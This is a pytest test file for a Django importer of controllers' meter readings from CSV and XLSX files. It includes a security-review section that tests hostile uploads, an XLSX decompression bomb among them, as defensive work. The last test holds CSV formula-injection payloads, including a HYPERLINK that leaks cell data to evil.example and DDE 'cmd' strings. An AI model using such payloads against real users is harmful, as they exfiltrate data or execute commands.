"""Import of controllers' readings: rows through submit_reading, a report of rejected rows,
bad files refused whole, the same file twice refused."""

import csv
import io
import re
import tracemalloc
import zipfile
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.exceptions import ValidationError
from openpyxl import Workbook

from meters.importing import import_controller_readings, rejected_rows_csv
from meters.models import ImportBatch, Meter, MeterReading
from tests.factories import MeterFactory

pytestmark = pytest.mark.django_db(transaction=True)  # the import is a durable transaction


@pytest.fixture(autouse=True)
def _november():
    with time_machine.travel(
        datetime(2026, 11, 27, 12, tzinfo=ZoneInfo("Europe/Moscow")), tick=False
    ):
        yield


@pytest.fixture
def meters():
    return [
        MeterFactory(serial="A-1"),
        MeterFactory(serial="B-2"),
        MeterFactory(serial="C-3", state=Meter.State.BROKEN),
    ]


def csv_bytes(meters, encoding="cp1251", rows=None):
    lines = ["Лицевой счёт;Счётчик;Показание;Дата"]
    lines += rows or [
        f"{meters[0].account.number};A-1;120,5;26.11.2026",
        f"{meters[1].account.number};B-2;90;26.11.2026",  # below the initial 100
        f"{meters[2].account.number};C-3;130;26.11.2026",  # broken meter
        f"{meters[0].account.number};ZZZ;130;26.11.2026",  # unknown meter
    ]
    return "\n".join(lines).encode(encoding)


def import_file(content, name="readings.csv"):
    return import_controller_readings(name=name, content=content, uploaded_by=None)


def test_rows_are_accepted_or_rejected_with_reasons_and_reported(meters):
    batch = import_file(csv_bytes(meters))
    assert (batch.rows_total, batch.rows_accepted, batch.rows_rejected) == (4, 1, 3)
    reading = MeterReading.objects.get()
    assert reading.channel == MeterReading.Channel.CONTROLLER_IMPORT
    assert reading.value == Decimal("120.500")
    assert reading.taken_on == date(2026, 11, 26)  # staff channel: outside the window is fine
    report = rejected_rows_csv(batch).decode("utf-8-sig").splitlines()
    assert report[0] == "строка;лицевой счёт;счётчик;показание;дата;причина"
    assert [line.split(";")[0] for line in report[1:]] == ["3", "4", "5"]
    assert "меньше предыдущего" in report[1]
    assert "неисправным" in report[2]
    assert "не найден" in report[3]


def test_the_same_file_twice_is_refused(meters):
    content = csv_bytes(meters)
    import_file(content)
    with pytest.raises(ValidationError) as caught:
        import_file(content, name="copy.csv")
    assert caught.value.code == "duplicate_file"
    assert ImportBatch.objects.count() == 1
    assert MeterReading.objects.count() == 1


def test_utf8_with_comma_separator_is_read(meters):
    rows = [f"{meters[0].account.number},A-1,121.25,2026-11-26"]
    content = ("account,serial,value,date\n" + "\n".join(rows)).encode("utf-8")
    assert import_file(content).rows_accepted == 1


def test_xlsx_is_read(meters):
    book = Workbook()
    sheet = book.active
    sheet.append(["Лицевой счёт", "Счётчик", "Показание", "Дата"])
    sheet.append([meters[0].account.number, "A-1", 125.5, datetime(2026, 11, 26)])  # noqa: DTZ001
    buffer = io.BytesIO()
    book.save(buffer)
    batch = import_file(buffer.getvalue(), name="readings.xlsx")
    assert batch.rows_accepted == 1
    assert MeterReading.objects.get().value == Decimal("125.500")


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (b"\xff\xfe\x00\x00garbage\x00\x81\x98", "r.csv", "bad_encoding"),
        ("Счётчик;Показание\nA-1;120".encode("cp1251"), "r.csv", "missing_columns"),
        (b"", "r.csv", "empty_file"),
        (b"PK\x03\x04 not really a workbook", "r.xlsx", "bad_xlsx"),
        (b"anything", "r.pdf", "bad_extension"),
    ],
)
def test_bad_files_are_refused_whole(meters, content, name, code):
    with pytest.raises(ValidationError) as caught:
        import_file(content, name=name)
    assert caught.value.code == code
    assert caught.value.messages[0]  # a Russian message for the clerk
    assert not ImportBatch.objects.exists()
    assert not MeterReading.objects.exists()


def test_garbage_values_refuse_the_file_and_name_the_lines(meters):
    rows = [
        f"{meters[0].account.number};A-1;120,5;26.11.2026",
        f"{meters[1].account.number};B-2;сто;26.11.2026",
        f"{meters[1].account.number};B-2;110;31.02.2026",
    ]
    with pytest.raises(ValidationError) as caught:
        import_file(csv_bytes(meters, rows=rows))
    assert caught.value.code == "bad_values"
    assert "строка 3" in caught.value.messages[0]
    assert "строка 4" in caught.value.messages[0]
    assert not MeterReading.objects.exists()
    assert not ImportBatch.objects.exists()


# --- Hostile files (security review): refused in Russian, nothing written ---


class ChunksOnly(io.BytesIO):
    """A file that fails if read whole: the import must read it in chunks."""

    def read(self, size: int | None = -1) -> bytes:
        assert size is not None, "the whole file was read at once"
        assert 0 < size <= 1024 * 1024, "the whole file was read at once"
        return super().read(size)


def refused(content, name="readings.csv") -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        import_file(content, name=name)
    assert not ImportBatch.objects.exists()
    assert not MeterReading.objects.exists()
    return caught.value


def workbook_bytes(rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rewritten(xlsx: bytes, part: str, change) -> bytes:
    """The workbook with one part's XML changed."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            archive.writestr(info.filename, change(data) if info.filename == part else data)
    return buffer.getvalue()


def test_a_csv_is_read_in_chunks_never_whole(meters):
    batch = import_file(ChunksOnly(csv_bytes(meters)))
    assert (batch.rows_total, batch.rows_accepted) == (4, 1)


@pytest.mark.parametrize("value", ["1e30", "1e25", "1" + "0" * 25, "1000000000"])
def test_a_reading_no_meter_shows_is_refused_not_a_server_error(meters, value):
    rows = [f"{meters[0].account.number};A-1;{value};26.11.2026"]

    error = refused(csv_bytes(meters, rows=rows))

    assert error.code == "bad_values"
    assert error.messages == [
        f"Файл не загружен, исправьте строки: строка 2: показание «{value}» больше "
        "999999999,999, такого счётчики не показывают."
    ]


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-inf", "١٢٠", "1e999999999999999999999"])
def test_a_reading_that_is_not_a_finite_ascii_number_is_refused(meters, value):
    rows = [f"{meters[0].account.number};A-1;{value};26.11.2026"]

    error = refused(csv_bytes(meters, encoding="utf-8", rows=rows))

    assert error.messages == [
        f"Файл не загружен, исправьте строки: строка 2: показание «{value}» не число."
    ]


def test_a_hundred_bad_rows_are_named_and_the_rest_counted(meters):
    rows = [f"{meters[0].account.number};A-1;сто;26.11.2026"] * 300

    error = refused(csv_bytes(meters, rows=rows))

    message = error.messages[0]
    assert "строка 101: показание «сто» не число" in message
    assert "строка 102" not in message
    assert message.endswith("; и ещё строк с ошибками: 200.")


def test_a_file_over_the_size_limit_is_refused(meters, settings):
    settings.READINGS_IMPORT_MAX_BYTES = 100

    error = refused(csv_bytes(meters))

    assert error.code == "too_large"
    assert error.messages == [
        "Файл больше 100 байт: разделите его на части и загрузите по очереди."
    ]


def test_a_file_of_too_many_rows_is_refused(meters, settings):
    settings.READINGS_IMPORT_MAX_ROWS = 4  # the header and four rows are five

    error = refused(csv_bytes(meters))

    assert error.code == "too_many_rows"
    assert error.messages == [
        "В файле больше 4 строк: разделите его на части и загрузите по очереди."
    ]


def test_a_csv_line_without_line_breaks_is_refused(meters):
    error = refused(b"x" * 3_000_000)

    assert error.code == "line_too_long"
    assert error.messages == ["Строка 1 длиннее 65\xa0536 знаков: это не таблица показаний."]


@pytest.mark.parametrize(
    "content",
    [
        "Лицевой счёт;Счётчик;Показание;Дата\n1;A-1;1\r2;26.11.2026\n",
        'Лицевой счёт;Счётчик;Показание;Дата\n1;"' + ("x" * 60_000 + "\n") * 3,  # a long field
    ],
)
def test_a_broken_csv_is_refused_not_a_server_error(meters, content):
    error = refused(content.encode("utf-8"))

    assert error.code == "bad_csv"
    assert error.messages[0].startswith("Файл CSV испорчен около строки ")


def test_an_xlsx_declaring_a_huge_sheet_is_refused_in_little_memory(meters):
    def huge(xml: bytes) -> bytes:
        text = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml.decode())
        last = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        return text.replace("</sheetData>", last + "</sheetData>").encode()

    content = rewritten(
        workbook_bytes(
            [
                ["Лицевой счёт", "Счётчик", "Показание", "Дата"],
                [meters[0].account.number, "A-1", 125.5, "26.11.2026"],
            ]
        ),
        "xl/worksheets/sheet1.xml",
        huge,
    )
    assert len(content) < 10_000

    tracemalloc.start()
    try:
        error = refused(content, name="huge.xlsx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert error.code == "too_many_rows"
    assert error.messages == [
        "В файле больше 100\xa0000 строк: разделите его на части и загрузите по очереди."
    ]
    assert peak < 30 * 1024 * 1024


def test_an_xlsx_that_unpacks_too_large_is_refused_before_it_is_read(meters, settings):
    settings.READINGS_IMPORT_MAX_BYTES = 100_000  # unpacked at most 20 times that: 2 MB
    content = rewritten(
        workbook_bytes([["Лицевой счёт", "Счётчик", "Показание", "Дата"]]),
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b"</worksheet>", b" " * 5_000_000 + b"</worksheet>"),
    )
    assert len(content) < 100_000

    error = refused(content, name="bomb.xlsx")

    assert error.code == "too_large"
    assert error.messages == [
        "Файл XLSX после распаковки больше 1,91 МБ: это не таблица показаний."
    ]


def test_an_xlsx_whose_sheet_cannot_be_read_is_refused(meters):
    content = rewritten(
        workbook_bytes([["Лицевой счёт", "Счётчик", "Показание", "Дата"]]),
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(
            rb"<sheetData>.*</sheetData>",
            rb'<sheetData><row r="1"><c r="A1" '
            rb't="s"><v>99</v></c></row></sheetData>',
            xml,
        ),  # a shared string that is not there
    )

    error = refused(content, name="broken.xlsx")

    assert error.code == "bad_xlsx"
    assert error.messages == ["Файл XLSX повреждён или это не таблица Excel."]


def test_the_report_of_rejected_rows_never_returns_a_formula(meters):
    evil = [
        '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
    ]
    rows = [
        f"{account};{serial};130;26.11.2026"
        for account, serial in zip(evil, evil[::-1], strict=True)
    ]

    batch = import_file(csv_bytes(meters, encoding="utf-8", rows=rows))

    report = list(
        csv.reader(io.StringIO(rejected_rows_csv(batch).decode("utf-8-sig")), delimiter=";")
    )
    assert batch.rows_rejected == 5
    cells = [cell for row in report[1:] for cell in row[1:3]]
    assert cells == [
        f"'{text.strip()}" for pair in zip(evil, evil[::-1], strict=True) for text in pair
    ]
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in report for cell in row
    )
